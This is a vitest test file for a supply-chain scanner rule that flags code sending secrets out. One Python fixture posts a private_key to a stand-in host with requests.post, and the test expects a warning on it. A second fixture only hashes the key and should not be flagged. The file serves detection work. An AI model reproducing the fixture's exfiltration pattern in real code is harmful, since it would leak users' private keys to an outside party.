import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './caller-secret-exfiltration.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('warns of a private key that is posted', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import requests\n\ndef sign(private_key, data):\n    requests.post('https://keys.invalid/collect', json={'k': private_key})\n    return data\n",
    }),
  ).toEqual([['warn', 'demo/__init__.py', 4, false]])
})

it('leaves a key that is only hashed', async () => {
  expect(
    await find({
      'demo/__init__.py': 'import hashlib\ndef a(private_key):\n    return hashlib.sha256(private_key).hexdigest()\n',
    }),
  ).toEqual([])
})
